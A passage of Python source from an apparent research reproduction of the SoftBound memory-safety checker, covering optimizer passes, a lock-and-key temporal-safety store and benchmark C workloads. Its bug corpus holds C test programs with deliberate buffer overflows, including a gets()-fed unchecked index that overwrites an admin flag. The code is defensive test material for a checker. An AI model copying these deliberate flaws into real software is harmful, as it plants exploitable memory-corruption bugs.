