"""Optimization pipeline.

Mirrors the paper's compilation flow (Section 6.1): the full optimizer
runs *before* SoftBound (so instrumentation counts reflect optimized
code) and again *after* it (so redundant checks introduced by the
mechanical transformation are cleaned up).
"""

from dataclasses import dataclass, field

from ..ir.module import invalidate_compiled
from ..ir.verifier import verify_module
from . import checkelim, constfold, copyprop, cse, dce, mem2reg


@dataclass
class PassStats:
    promoted_allocas: int = 0
    folded: int = 0
    removed_dead: int = 0
    removed_checks: int = 0
    propagated_copies: int = 0
    cse_replaced: int = 0


def optimize_module(module, verify=True):
    """The pre-instrumentation pipeline:
    constfold → mem2reg → copyprop → cse → dce."""
    stats = PassStats()
    for func in module.functions.values():
        stats.folded += constfold.run(func, module)
        stats.promoted_allocas += mem2reg.run(func, module)
        stats.propagated_copies += copyprop.run(func, module)
        stats.cse_replaced += cse.run(func, module)
        stats.removed_dead += dce.run(func, module)
    invalidate_compiled(module)
    if verify:
        verify_module(module)
    return stats


def optimize_after_instrumentation(module, verify=True):
    """The post-SoftBound cleanup pipeline (the paper re-runs the full
    LLVM suite here, Section 6.1):
    copyprop → cse → checkelim → constfold → dce."""
    stats = PassStats()
    for func in module.functions.values():
        stats.propagated_copies += copyprop.run(func, module)
        stats.cse_replaced += cse.run(func, module)
        stats.removed_checks += checkelim.run(func, module)
        stats.folded += constfold.run(func, module)
        stats.removed_dead += dce.run(func, module)
    invalidate_compiled(module)
    if verify:
        verify_module(module)
    return stats
