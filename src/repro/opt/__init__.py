"""Optimizer passes: constfold, mem2reg, dce, redundant-check
elimination, and the loop-aware check optimizer (licm + checkwiden)."""

from .pipeline import PassStats, optimize_after_instrumentation, optimize_module

__all__ = ["PassStats", "optimize_module", "optimize_after_instrumentation"]
