"""Constant folding and trivial branch simplification.

Folds integer binops/compares/casts whose operands are constants, and
rewrites conditional branches on constant conditions into direct
branches.  Runs before mem2reg so that obviously-constant address
arithmetic doesn't inhibit later passes, and again after the SoftBound
transform (the paper re-runs LLVM's optimizations over instrumented
code, Section 6.1).
"""

from ..ir import instructions as ins
from ..ir.values import Const


def _wrap(value, irtype):
    bits = irtype.size * 8
    value &= (1 << bits) - 1
    if irtype.kind != "ptr" and value >= 1 << (bits - 1):
        value -= 1 << bits
    return value


def _unsigned(value, irtype):
    return value & ((1 << (irtype.size * 8)) - 1)


_FOLDABLE = {
    "add": lambda a, b: a + b,
    "sub": lambda a, b: a - b,
    "mul": lambda a, b: a * b,
    "and": lambda a, b: a & b,
    "or": lambda a, b: a | b,
    "xor": lambda a, b: a ^ b,
    "shl": lambda a, b: a << (b & 63),
    "ashr": lambda a, b: a >> (b & 63),
}

_CMP = {
    "eq": lambda a, b: a == b,
    "ne": lambda a, b: a != b,
    "slt": lambda a, b: a < b,
    "sle": lambda a, b: a <= b,
    "sgt": lambda a, b: a > b,
    "sge": lambda a, b: a >= b,
}


def _fold_instruction(instr):
    """Return a replacement Mov, or None to keep the instruction."""
    if instr.opcode == "binop" and instr.op in _FOLDABLE:
        if isinstance(instr.a, Const) and isinstance(instr.b, Const):
            if isinstance(instr.a.value, int) and isinstance(instr.b.value, int):
                value = _wrap(_FOLDABLE[instr.op](instr.a.value, instr.b.value), instr.dst.type)
                return ins.Mov(dst=instr.dst, src=Const(value, instr.dst.type))
    if instr.opcode == "cmp" and instr.pred in _CMP:
        if isinstance(instr.a, Const) and isinstance(instr.b, Const):
            if isinstance(instr.a.value, int) and isinstance(instr.b.value, int):
                value = 1 if _CMP[instr.pred](instr.a.value, instr.b.value) else 0
                return ins.Mov(dst=instr.dst, src=Const(value, instr.dst.type))
    if instr.opcode == "cast" and isinstance(instr.src, Const):
        if instr.kind in ("trunc", "sext", "bitcast", "ptrtoint", "inttoptr") \
                and isinstance(instr.src.value, int):
            value = _wrap(instr.src.value, instr.dst.type)
            return ins.Mov(dst=instr.dst, src=Const(value, instr.dst.type))
        if instr.kind == "zext" and isinstance(instr.src.value, int):
            value = _wrap(_unsigned(instr.src.value, instr.src.type), instr.dst.type)
            return ins.Mov(dst=instr.dst, src=Const(value, instr.dst.type))
    return None


def run(func, module=None):
    """Fold constants; returns the number of instructions rewritten."""
    changed = 0
    for block in func.blocks:
        for i, instr in enumerate(block.instructions):
            folded = _fold_instruction(instr)
            if folded is not None:
                block.instructions[i] = folded
                changed += 1
        # Constant conditional branches.
        term = block.terminator
        if term is not None and term.opcode == "cbr" and isinstance(term.cond, Const):
            label = term.true_label if term.cond.value else term.false_label
            block.instructions[-1] = ins.Br(label=label)
            changed += 1
    return changed
