"""Register promotion (mem2reg).

Promotes scalar stack slots whose address never escapes into virtual
registers.  This plays the role the paper assigns to LLVM's register
promotion (Section 6.1): "register promotion and other optimizations
have already reduced the number of memory operations, [which] reduces
the amount of additional instrumentation introduced by SoftBound" —
without it, every local variable access would look like a memory
operation and the instrumentation counts (and Figure 1/2 shapes) would
be meaningless.

Because the IR is not SSA (registers are mutable, per-frame slots), a
promoted slot simply becomes one register: loads become moves from it,
stores become moves to it.  This is sound for arbitrary control flow.
"""

from ..ir import instructions as ins
from ..ir.irtypes import from_ctype
from ..ir.values import Const, Register
from ..ir.verifier import definite_assignment_errors


def _alloca_uses(func):
    """Map alloca-register uid -> 'promotable' | 'escapes'."""
    allocas = {}
    for instr in func.instructions():
        if instr.opcode == "alloca":
            ctype = instr.ctype
            if ctype is not None and ctype.is_scalar and instr.size <= 8:
                allocas[instr.dst.uid] = "promotable"
            else:
                allocas[instr.dst.uid] = "escapes"
    if not allocas:
        return allocas
    for instr in func.instructions():
        if instr.opcode == "load":
            values = [instr.addr] if not isinstance(instr.addr, Register) else []
            # loads via the alloca address are fine; nothing else to check
            continue
        if instr.opcode == "store":
            # the *value* operand escaping disqualifies
            if isinstance(instr.value, Register) and instr.value.uid in allocas:
                allocas[instr.value.uid] = "escapes"
            continue
        for attr in ("a", "b", "base", "offset", "src", "cond", "callee_reg",
                     "dst_addr", "src_addr", "ptr", "bound", "size", "addr", "value"):
            operand = getattr(instr, attr, None)
            if isinstance(operand, Register) and operand.uid in allocas:
                allocas[operand.uid] = "escapes"
        for arg in getattr(instr, "args", []) or []:
            if isinstance(arg, Register) and arg.uid in allocas:
                allocas[arg.uid] = "escapes"
    return allocas


def run(func, module=None):
    """Promote eligible allocas in ``func``.  Returns the number promoted."""
    allocas = _alloca_uses(func)
    targets = {}
    ctypes = {}
    for instr in func.instructions():
        if instr.opcode == "alloca" and allocas.get(instr.dst.uid) == "promotable":
            ctypes[instr.dst.uid] = instr.ctype
    if not ctypes:
        return 0
    for uid, ctype in ctypes.items():
        targets[uid] = func.new_reg(from_ctype(ctype), "prom")

    for block in func.blocks:
        new_instrs = []
        for instr in block.instructions:
            if instr.opcode == "alloca" and instr.dst.uid in targets:
                continue  # slot no longer exists
            if (instr.opcode == "load" and isinstance(instr.addr, Register)
                    and instr.addr.uid in targets):
                new_instrs.append(ins.Mov(dst=instr.dst, src=targets[instr.addr.uid]))
                continue
            if (instr.opcode == "store" and isinstance(instr.addr, Register)
                    and instr.addr.uid in targets):
                new_instrs.append(ins.Mov(dst=targets[instr.addr.uid], src=instr.value))
                continue
            new_instrs.append(instr)
        block.instructions = new_instrs
    # A variable read before its first store used to read stack bytes;
    # promoted, the read would hit a missing register slot (which the
    # strict verifier rejects).  Make the interpreter's historical
    # read-as-0 default explicit: zero-initialize exactly the promoted
    # registers the definite-assignment analysis flags.
    promoted_uids = {reg.uid: reg for reg in targets.values()}
    undefined = []
    seen = set()
    for _label, _instr, val in definite_assignment_errors(func):
        reg = promoted_uids.get(val.uid)
        if reg is not None and val.uid not in seen:
            seen.add(val.uid)
            undefined.append(reg)
    if undefined:
        entry = func.blocks[0]
        entry.instructions[0:0] = [
            ins.Mov(dst=reg, src=Const(0, reg.type)) for reg in undefined
        ]
    func._frame_layout = None  # invalidate cached layout
    return len(targets)
