"""The lock-and-key store for temporal memory safety.

The spatial half of the reproduction (base/bound metadata) cannot see
*when* an object dies: ``free`` erases the metadata stored *inside* the
freed region, but every already-materialized (base, bound) pair keeps
describing the dead extent, so a stale pointer sails through its
spatial check into re-allocated memory.  The canonical companion
mechanism (the CETS line of work) keys every allocation:

* each allocation — heap block, stack frame, the global segment — gets
  a fresh **key** (a monotonically increasing integer, never reused)
  and a **lock**: a slot in a disjoint lock space holding the key while
  the allocation is alive;
* every pointer carries ``(key, lock)`` alongside ``(base, bound)``
  through registers, the disjoint metadata facilities, calls and
  returns;
* a dereference passes its temporal check iff ``*lock == key``;
* ``free`` / frame teardown writes a dead value into the lock slot and
  recycles the slot.

Slot recycling is what makes the *key* essential: a recycled slot soon
holds a different allocation's key, and a stale pointer's old key can
never match it — keys are never reused (the key-collision stress
workload pins exactly this).

The lock space lives outside simulated program memory, like the
metadata facilities themselves, so program stores cannot forge
liveness.  ``LOCK_REGION_BASE`` places its storage in the simulated
address space for the cache model's benefit only.
"""

#: Key/lock of objects that are never deallocated: globals, functions,
#: and setbound-blessed pointers.  Slot 0 permanently holds GLOBAL_KEY.
GLOBAL_KEY = 1
GLOBAL_LOCK = 0

#: Key/lock carried by pointers that never had a provenance (integers
#: cast to pointers, wild loads).  Slot never allocated, so the check
#: ``slots[INVALID_LOCK] == INVALID_KEY`` can only fail — but such
#: pointers carry NULL spatial bounds and trap spatially first.
INVALID_KEY = 0
INVALID_LOCK = 0

#: Simulated placement of the lock space's own storage (cache model).
LOCK_REGION_BASE = 0x6000_0000_0000
LOCK_ENTRY_BYTES = 8


class LockSpace:
    """Allocation-lifetime registry: lock slots holding allocation keys.

    ``acquire`` returns a fresh ``(key, lock)`` pair; ``release`` kills
    the lock and recycles the slot for a later allocation (keys are
    never recycled).  ``live`` is the temporal check predicate.
    """

    def __init__(self):
        self.slots = {GLOBAL_LOCK: GLOBAL_KEY}
        self.free_slots = []
        self.next_key = GLOBAL_KEY + 1
        self.next_slot = 1
        self.peak_live = 1
        self.acquired = 0
        self.released = 0
        self._trace = None

    def set_trace(self, callback):
        """Cache-model hook: ``callback(addr, nbytes)`` per slot touch."""
        self._trace = callback

    def _touch(self, slot):
        if self._trace is not None:
            self._trace(LOCK_REGION_BASE + slot * LOCK_ENTRY_BYTES,
                        LOCK_ENTRY_BYTES)

    def acquire(self, stats=None):
        """Allocate a fresh (key, lock) pair for a new allocation."""
        key = self.next_key
        self.next_key += 1
        if self.free_slots:
            slot = self.free_slots.pop()
        else:
            slot = self.next_slot
            self.next_slot += 1
        self.slots[slot] = key
        self.acquired += 1
        self.peak_live = max(self.peak_live, len(self.slots))
        if stats is not None:
            stats.charge("sb.temporal.lock.acquire")
        self._touch(slot)
        return key, slot

    def release(self, slot, stats=None):
        """Invalidate a lock: every pointer still carrying its old key
        becomes permanently dead.  The slot is recycled."""
        if slot == GLOBAL_LOCK:
            return  # the global lock is immortal
        if self.slots.pop(slot, None) is not None:
            self.free_slots.append(slot)
            self.released += 1
        if stats is not None:
            stats.charge("sb.temporal.lock.release")
        self._touch(slot)

    def live(self, key, slot):
        """The temporal check predicate: ``*lock == key`` with a live,
        non-zero key."""
        return key != INVALID_KEY and self.slots.get(slot) == key

    def read(self, slot):
        """Current key held by a lock slot (0 when dead)."""
        self._touch(slot)
        return self.slots.get(slot, INVALID_KEY)

    def metadata_bytes(self):
        """Peak lock-space storage (one word per live slot)."""
        return self.peak_live * LOCK_ENTRY_BYTES
