"""Lock-and-key temporal memory safety subsystem.

Spatial checking (base/bound) is one half of complete memory safety;
this package supplies the other half: every allocation gets a unique
key and a lock location, pointers carry ``(key, lock)`` alongside
``(base, bound)``, and ``free`` / scope exit invalidates the lock so
any later dereference through a stale pointer traps with a precise
:class:`~repro.vm.errors.TemporalTrap`.

Enable it per build with ``SoftBoundConfig(temporal=True)`` or on the
command line with ``--temporal``.
"""

from .locks import (
    GLOBAL_KEY,
    GLOBAL_LOCK,
    INVALID_KEY,
    INVALID_LOCK,
    LOCK_REGION_BASE,
    LockSpace,
)

__all__ = [
    "GLOBAL_KEY",
    "GLOBAL_LOCK",
    "INVALID_KEY",
    "INVALID_LOCK",
    "LOCK_REGION_BASE",
    "LockSpace",
]
