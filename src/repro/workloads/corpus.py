"""A regression corpus of classic spatial-bug patterns.

The Wilander suite (Table 3) covers *attack* shapes and BugBench
(Table 4) covers four real-world bugs; this corpus rounds out the
evaluation with the textbook spatial-bug patterns a deployed checker
meets in practice — each annotated with where it overflows, whether the
first faulting access is a read or a write, and therefore what
store-only mode is expected to do with it (the paper's Section 6.3
trade-off made enumerable).

Used by ``tests/workloads/test_corpus.py`` to pin the full/store-only
detection matrix pattern-by-pattern.
"""

from collections import OrderedDict
from dataclasses import dataclass


@dataclass(frozen=True)
class BugPattern:
    name: str
    description: str
    #: "read" or "write" — the first out-of-bounds access's direction.
    faulting_access: str
    #: "stack" | "heap" | "global" | "subobject"
    location: str
    source: str
    #: Deterministic exit code of an unprotected run.  Non-zero means
    #: the corruption is *observable* through the program's own probe;
    #: zero means it is latent (absorbed by alignment padding or a
    #: zeroed neighbour) — the silence that makes these bugs dangerous.
    silent_exit: int = 0


OFF_BY_ONE_STACK = BugPattern(
    name="off_by_one_stack",
    description="classic <= loop bound writing one past a stack array",
    faulting_access="write",
    location="stack",
    silent_exit=0,
    source=r'''
int main(void) {
    int canary = 7;
    int a[8];
    for (int i = 0; i <= 8; i++) a[i] = 0;   /* a[8] is one too far */
    return canary != 7;     /* 1 when the neighbour got trampled */
}
''')

OFF_BY_ONE_HEAP_READ = BugPattern(
    name="off_by_one_heap_read",
    description="summing one element past a heap array (read overflow)",
    faulting_access="read",
    location="heap",
    silent_exit=0,
    source=r'''
int main(void) {
    int *a = (int *)malloc(8 * sizeof(int));
    for (int i = 0; i < 8; i++) a[i] = 1;
    int total = 0;
    for (int i = 0; i <= 8; i++) total += a[i];   /* reads a[8] */
    return total != 8;
}
''')

UNCHECKED_INDEX_FROM_INPUT = BugPattern(
    name="unchecked_index_from_input",
    description="attacker-controlled index written without validation",
    faulting_access="write",
    location="global",
    silent_exit=9,
    source=r'''
int table[16];
int admin_flag = 0;

int main(void) {
    char line[16];
    gets(line);
    int index = atoi(line);     /* no range check */
    table[index] = 1;           /* index 16 lands on admin_flag */
    return admin_flag ? 9 : 0;
}
''')

STRCPY_UNDERSIZED_HEAP = BugPattern(
    name="strcpy_undersized_heap",
    description="strlen-vs-strlen+1 allocation, the missing-NUL-byte bug",
    faulting_access="write",
    location="heap",
    silent_exit=0,
    source=r'''
int main(void) {
    char *name = "abcdefgh";
    char *copy = (char *)malloc(strlen(name));   /* forgot the NUL */
    strcpy(copy, name);                          /* writes 9 bytes */
    return 0;
}
''')

NEGATIVE_INDEX = BugPattern(
    name="negative_index",
    description="index underflow walking backwards past element zero",
    faulting_access="write",
    location="stack",
    silent_exit=0,
    source=r'''
int main(void) {
    int canary = 3;
    int a[4];
    int i = 2;
    while (i >= -1) { a[i] = 0; i--; }   /* a[-1] underflows */
    return canary != 3;
}
''')

SUBOBJECT_MEMSET = BugPattern(
    name="subobject_memset",
    description="memset sized to the struct, aimed at one field",
    faulting_access="write",
    location="subobject",
    silent_exit=0,
    source=r'''
struct conn { char id[8]; int privileged; };

int main(void) {
    struct conn c;
    c.privileged = 1;
    memset(c.id, 0x41, sizeof(c));   /* sizeof(c), not sizeof(c.id) */
    return c.privileged == 1;        /* 0: flag erased; 1 pre-wipe */
}
''')

POINTER_ARITH_PAST_END = BugPattern(
    name="pointer_arith_past_end",
    description="iterator walked past end and dereferenced (read)",
    faulting_access="read",
    location="heap",
    silent_exit=0,
    source=r'''
int main(void) {
    int *a = (int *)malloc(4 * sizeof(int));
    for (int i = 0; i < 4; i++) a[i] = 5;
    int *end = a + 4;
    int *it = a;
    int total = 0;
    while (it <= end) { total += *it; it++; }   /* <=: reads *end */
    return total != 20;
}
''')

STALE_BOUND_AFTER_REALLOC = BugPattern(
    name="stale_bound_after_realloc",
    description="write through a pointer sized for the old allocation",
    faulting_access="write",
    location="heap",
    silent_exit=0,
    source=r'''
int main(void) {
    char *buf = (char *)malloc(16);
    buf = (char *)realloc(buf, 8);   /* shrunk */
    buf[12] = 'x';                   /* still using the old size */
    return 0;
}
''')

CORPUS = OrderedDict((p.name, p) for p in [
    OFF_BY_ONE_STACK,
    OFF_BY_ONE_HEAP_READ,
    UNCHECKED_INDEX_FROM_INPUT,
    STRCPY_UNDERSIZED_HEAP,
    NEGATIVE_INDEX,
    SUBOBJECT_MEMSET,
    POINTER_ARITH_PAST_END,
    STALE_BOUND_AFTER_REALLOC,
])


def all_patterns():
    return list(CORPUS.values())


def patterns_by_access(kind):
    return [p for p in CORPUS.values() if p.faulting_access == kind]
