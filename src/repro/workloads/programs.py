"""The 15 benchmark analogues (paper Section 6.3, Figures 1 and 2).

Each entry mirrors the dominant computational behaviour of one paper
benchmark.  What matters for the reproduction is the *fraction of memory
operations that move pointer values* (Figure 1's x-axis and the driver
of Figure 2's overheads): the SPEC-like analogues are scalar/array
codes with near-zero pointer traffic, the Olden-like analogues are
pointer-chasing data-structure codes where metadata accesses dominate.

Every program is deterministic and self-checking: it returns a small
checksum so tests can pin behavioural equivalence between protected and
unprotected runs.

``WORKLOADS`` is ordered as the paper's Figure 1 sorts its bars
(ascending pointer-operation frequency, SPEC shaded dark).
"""

from collections import OrderedDict
from dataclasses import dataclass


@dataclass(frozen=True)
class Workload:
    name: str
    suite: str  # "spec" or "olden"
    description: str
    source: str
    expected_exit: int


# -- SPEC-like: scalar and array dominated --------------------------------

GO = Workload(
    name="go",
    suite="spec",
    description="Go board influence evaluation (integer arrays, branchy)",
    expected_exit=20,
    source=r'''
int board[361];
int influence[361];

int liberty_score(int pos) {
    int score = 0;
    int row = pos / 19, col = pos % 19;
    if (row > 0) score += board[pos - 19] == 0;
    if (row < 18) score += board[pos + 19] == 0;
    if (col > 0) score += board[pos - 1] == 0;
    if (col < 18) score += board[pos + 1] == 0;
    return score;
}

int main(void) {
    srand(7);
    for (int i = 0; i < 361; i++) board[i] = rand() % 3;
    int total = 0;
    for (int pass = 0; pass < 10; pass++) {
        for (int pos = 0; pos < 361; pos++) {
            int inf = 0;
            if (board[pos]) {
                inf = liberty_score(pos) * (board[pos] == 1 ? 1 : -1);
                for (int d = 1; d < 4; d++) {
                    if (pos - d * 19 >= 0) inf += board[pos - d * 19] == board[pos];
                    if (pos + d * 19 < 361) inf += board[pos + d * 19] == board[pos];
                }
            }
            influence[pos] = (influence[pos] * 3 + inf) / 4;
        }
        int moved = 0, best = -1000;
        for (int pos = 0; pos < 361; pos++)
            if (board[pos] == 0 && influence[pos] > best) { best = influence[pos]; moved = pos; }
        board[moved] = 1 + (pass & 1);
        total += best + 2;
    }
    return total % 256;
}
''')

LBM = Workload(
    name="lbm",
    suite="spec",
    description="Lattice-Boltzmann-style 2D stencil over doubles",
    expected_exit=161,
    source=r'''
double grid[34][34];
double next[34][34];

int main(void) {
    for (int i = 0; i < 34; i++)
        for (int j = 0; j < 34; j++)
            grid[i][j] = (double)((i * 7 + j * 3) % 11);
    for (int step = 0; step < 10; step++) {
        for (int i = 1; i < 33; i++) {
            for (int j = 1; j < 33; j++) {
                double v = grid[i][j];
                double flow = (grid[i - 1][j] + grid[i + 1][j]
                             + grid[i][j - 1] + grid[i][j + 1]) * 0.25;
                next[i][j] = v + 0.6 * (flow - v);
            }
        }
        for (int i = 1; i < 33; i++)
            for (int j = 1; j < 33; j++)
                grid[i][j] = next[i][j];
    }
    double total = 0.0;
    for (int i = 0; i < 34; i++) total += grid[i][i];
    return ((int)total) % 256;
}
''')

HMMER = Workload(
    name="hmmer",
    suite="spec",
    description="Viterbi-style dynamic programming over integer score matrices",
    expected_exit=5,
    source=r'''
int match[64][32];
int insert[64][32];
int seq[200];

int max2(int a, int b) { return a > b ? a : b; }

int main(void) {
    srand(3);
    for (int i = 0; i < 200; i++) seq[i] = rand() % 20;
    for (int s = 0; s < 32; s++) { match[0][s] = 0; insert[0][s] = -4; }
    int best = 0;
    for (int i = 1; i < 64; i++) {
        for (int s = 1; s < 32; s++) {
            int emit = (seq[(i * 3 + s) % 200] == s % 20) ? 5 : -2;
            match[i][s] = max2(match[i - 1][s - 1] + emit,
                               insert[i - 1][s - 1] + emit - 1);
            insert[i][s] = max2(match[i - 1][s] - 3, insert[i - 1][s] - 1);
            best = max2(best, match[i][s]);
        }
    }
    return best % 256;
}
''')

COMPRESS = Workload(
    name="compress",
    suite="spec",
    description="LZW-style compression over byte buffers and hash tables",
    expected_exit=46,
    source=r'''
char input[2048];
char output[4096];
int codes[1024];
int hash_tab[1024];

int main(void) {
    srand(11);
    for (int i = 0; i < 2048; i++) input[i] = 'a' + (rand() % 7);
    for (int i = 0; i < 1024; i++) { hash_tab[i] = -1; codes[i] = 0; }
    int next_code = 256;
    int out = 0;
    int prev = input[0];
    for (int i = 1; i < 2048; i++) {
        int c = input[i];
        int key = ((prev << 5) ^ c) % 1024;
        if (key < 0) key += 1024;
        if (hash_tab[key] == (prev << 8 | c)) {
            prev = 256 + (codes[key] % 512);
        } else {
            output[out % 4096] = (char)(prev & 0xff);
            out++;
            if (next_code < 1024 + 256) {
                hash_tab[key] = prev << 8 | c;
                codes[key] = next_code++;
            }
            prev = c;
        }
    }
    int checksum = 0;
    for (int i = 0; i < out && i < 4096; i++) checksum = (checksum * 31 + output[i]) % 9973;
    return checksum % 256;
}
''')

IJPEG = Workload(
    name="ijpeg",
    suite="spec",
    description="8x8 integer DCT and quantization over image blocks",
    expected_exit=7,
    source=r'''
int image[48][48];
int block[8][8];
int coeffs[8][8];

int main(void) {
    for (int i = 0; i < 48; i++)
        for (int j = 0; j < 48; j++)
            image[i][j] = ((i * 13 + j * 29) % 256) - 128;
    int checksum = 0;
    for (int bi = 0; bi < 4; bi++) {
        for (int bj = 0; bj < 4; bj++) {
            for (int i = 0; i < 8; i++)
                for (int j = 0; j < 8; j++)
                    block[i][j] = image[bi * 8 + i][bj * 8 + j];
            /* separable integer "DCT": rows then columns */
            for (int i = 0; i < 8; i++) {
                for (int u = 0; u < 8; u++) {
                    int acc = 0;
                    for (int x = 0; x < 8; x++)
                        acc += block[i][x] * ((u * x) % 7 - 3);
                    coeffs[i][u] = acc >> 3;
                }
            }
            for (int j = 0; j < 8; j++) {
                for (int v = 0; v < 8; v++) {
                    int acc = 0;
                    for (int y = 0; y < 8; y++)
                        acc += coeffs[y][j] * ((v * y) % 5 - 2);
                    block[v][j] = acc >> 4;
                }
            }
            for (int i = 0; i < 8; i++)
                for (int j = 0; j < 8; j++)
                    checksum = (checksum + block[i][j] / (1 + i + j)) % 9973;
        }
    }
    return (checksum + 9973) % 256;
}
''')

LIBQUANTUM = Workload(
    name="libquantum",
    suite="spec",
    description="Quantum register simulation over an array of amplitude structs",
    expected_exit=192,
    source=r'''
struct amp { int state; double re; double im; };
struct amp reg[256];
struct amp *order[256];

int main(void) {
    for (int i = 0; i < 256; i++) {
        reg[i].state = i;
        reg[i].re = (i % 2) ? 0.5 : -0.5;
        reg[i].im = 0.0;
        order[i] = &reg[i];
    }
    for (int gate = 0; gate < 40; gate++) {
        int target = gate % 8;
        int mask = 1 << target;
        for (int i = 0; i < 256; i++) {
            struct amp *a = order[i];
            if ((a->state & mask) == 0) {
                double tr = a->re;
                a->re = a->re * 0.8 + a->im * 0.6;
                a->im = a->im * 0.8 - tr * 0.6;
            } else {
                a->state ^= (gate % 3 == 0) ? mask >> 1 : 0;
            }
        }
    }
    double norm = 0.0;
    int states = 0;
    for (int i = 0; i < 256; i++) {
        norm += reg[i].re * reg[i].re + reg[i].im * reg[i].im;
        states += reg[i].state;
    }
    return ((int)(norm) + states) % 256;
}
''')

# -- Olden-like: pointer-chasing data structures ------------------------------

BH = Workload(
    name="bh",
    suite="olden",
    description="Barnes-Hut style quadtree n-body force approximation",
    expected_exit=104,
    source=r'''
struct body { double x; double y; double mass; };
struct cell {
    struct cell *quad[4];
    struct body *occupant;
    double cx; double cy; double half;
    double mx; double my; double mass;
};

struct cell *new_cell(double cx, double cy, double half) {
    struct cell *c = (struct cell *)malloc(sizeof(struct cell));
    for (int i = 0; i < 4; i++) c->quad[i] = NULL;
    c->occupant = NULL;
    c->cx = cx; c->cy = cy; c->half = half;
    c->mx = 0.0; c->my = 0.0; c->mass = 0.0;
    return c;
}

int quadrant(struct cell *c, struct body *b) {
    return (b->x >= c->cx ? 1 : 0) + (b->y >= c->cy ? 2 : 0);
}

void insert_body(struct cell *c, struct body *b) {
    while (1) {
        c->mx += b->x * b->mass; c->my += b->y * b->mass; c->mass += b->mass;
        int q = quadrant(c, b);
        if (c->quad[q] == NULL && c->occupant == NULL && c->mass == b->mass) {
            c->occupant = b;
            return;
        }
        if (c->quad[q] == NULL) {
            double h = c->half / 2.0;
            c->quad[q] = new_cell(c->cx + ((q & 1) ? h : -h),
                                  c->cy + ((q & 2) ? h : -h), h);
            if (c->occupant != NULL) {
                struct body *old = c->occupant;
                c->occupant = NULL;
                int oq = quadrant(c, old);
                if (oq == q) {
                    insert_body(c->quad[q], old);
                } else {
                    double h2 = c->half / 2.0;
                    if (c->quad[oq] == NULL)
                        c->quad[oq] = new_cell(c->cx + ((oq & 1) ? h2 : -h2),
                                               c->cy + ((oq & 2) ? h2 : -h2), h2);
                    insert_body(c->quad[oq], old);
                }
            }
        }
        c = c->quad[q];
    }
}

double force_on(struct cell *c, struct body *b) {
    if (c == NULL || c->mass == 0.0) return 0.0;
    double dx = c->mx / c->mass - b->x;
    double dy = c->my / c->mass - b->y;
    double dist2 = dx * dx + dy * dy + 0.05;
    if (c->half * c->half < dist2 * 0.25 || c->occupant != NULL) {
        return c->mass / dist2;
    }
    double total = 0.0;
    for (int i = 0; i < 4; i++) total += force_on(c->quad[i], b);
    return total;
}

struct body bodies[48];

int main(void) {
    srand(5);
    for (int i = 0; i < 48; i++) {
        bodies[i].x = (double)(rand() % 1000) / 10.0;
        bodies[i].y = (double)(rand() % 1000) / 10.0;
        bodies[i].mass = 1.0 + (double)(i % 4);
    }
    double total = 0.0;
    for (int step = 0; step < 3; step++) {
        struct cell *root = new_cell(50.0, 50.0, 50.0);
        for (int i = 0; i < 48; i++) insert_body(root, &bodies[i]);
        for (int i = 0; i < 48; i++) total += force_on(root, &bodies[i]);
    }
    return ((int)total) % 256;
}
''')

TSP = Workload(
    name="tsp",
    suite="olden",
    description="Nearest-neighbour travelling-salesman tour over a linked city list",
    expected_exit=253,
    source=r'''
struct city { double x; double y; struct city *next; int visited; };

struct city *make_cities(int n) {
    struct city *head = NULL;
    for (int i = 0; i < n; i++) {
        struct city *c = (struct city *)malloc(sizeof(struct city));
        c->x = (double)(rand() % 500);
        c->y = (double)(rand() % 500);
        c->visited = 0;
        c->next = head;
        head = c;
    }
    return head;
}

double dist2(struct city *a, struct city *b) {
    double dx = a->x - b->x, dy = a->y - b->y;
    return dx * dx + dy * dy;
}

int main(void) {
    srand(13);
    struct city *head = make_cities(120);
    struct city *current = head;
    current->visited = 1;
    double tour = 0.0;
    for (int step = 0; step < 119; step++) {
        struct city *best = NULL;
        double best_d = 1.0e18;
        for (struct city *c = head; c; c = c->next) {
            if (!c->visited) {
                double d = dist2(current, c);
                if (d < best_d) { best_d = d; best = c; }
            }
        }
        best->visited = 1;
        tour += sqrt(best_d);
        current = best;
    }
    return ((int)tour) % 256;
}
''')

PERIMETER = Workload(
    name="perimeter",
    suite="olden",
    description="Quadtree image perimeter computation (4-way pointer tree)",
    expected_exit=244,
    source=r'''
struct quad {
    struct quad *child[4];
    int color;   /* 0 white, 1 black, 2 grey */
    int level;
};

struct quad *build(int level, int x, int y) {
    struct quad *q = (struct quad *)malloc(sizeof(struct quad));
    q->level = level;
    if (level == 0) {
        q->color = ((x * x + y * y) % 7) < 3 ? 1 : 0;
        for (int i = 0; i < 4; i++) q->child[i] = NULL;
        return q;
    }
    int all_black = 1, all_white = 1;
    for (int i = 0; i < 4; i++) {
        q->child[i] = build(level - 1, x * 2 + (i & 1), y * 2 + (i >> 1));
        if (q->child[i]->color != 1) all_black = 0;
        if (q->child[i]->color != 0) all_white = 0;
    }
    q->color = all_black ? 1 : (all_white ? 0 : 2);
    return q;
}

int count_black_edges(struct quad *q) {
    if (q == NULL) return 0;
    if (q->color == 1) return 4 << q->level;
    if (q->color == 0) return 0;
    int total = 0;
    for (int i = 0; i < 4; i++) total += count_black_edges(q->child[i]);
    return total;
}

int main(void) {
    struct quad *root = build(5, 0, 0);
    int perimeter = count_black_edges(root);
    return perimeter % 256;
}
''')

HEALTH = Workload(
    name="health",
    suite="olden",
    description="Columbian health-care simulation: patients moving between linked lists",
    expected_exit=135,
    source=r'''
struct patient { int id; int time; int severity; struct patient *next; };
struct village {
    struct patient *waiting;
    struct patient *treated;
    int treated_count;
    int total_wait;
};

struct village clinics[8];

void enqueue(struct patient **list, struct patient *p) {
    p->next = *list;
    *list = p;
}

int main(void) {
    srand(23);
    int next_id = 0;
    for (int v = 0; v < 8; v++) {
        clinics[v].waiting = NULL;
        clinics[v].treated = NULL;
        clinics[v].treated_count = 0;
        clinics[v].total_wait = 0;
    }
    for (int tick = 0; tick < 60; tick++) {
        for (int v = 0; v < 8; v++) {
            if (rand() % 3 == 0) {
                struct patient *p = (struct patient *)malloc(sizeof(struct patient));
                p->id = next_id++;
                p->time = tick;
                p->severity = rand() % 10;
                enqueue(&clinics[v].waiting, p);
            }
            /* treat the most severe waiting patient */
            struct patient *best = NULL; struct patient *prev_best = NULL;
            struct patient *prev = NULL;
            for (struct patient *p = clinics[v].waiting; p; p = p->next) {
                if (best == NULL || p->severity > best->severity) {
                    best = p; prev_best = prev;
                }
                prev = p;
            }
            if (best != NULL && best->severity > 3) {
                if (prev_best) prev_best->next = best->next;
                else clinics[v].waiting = best->next;
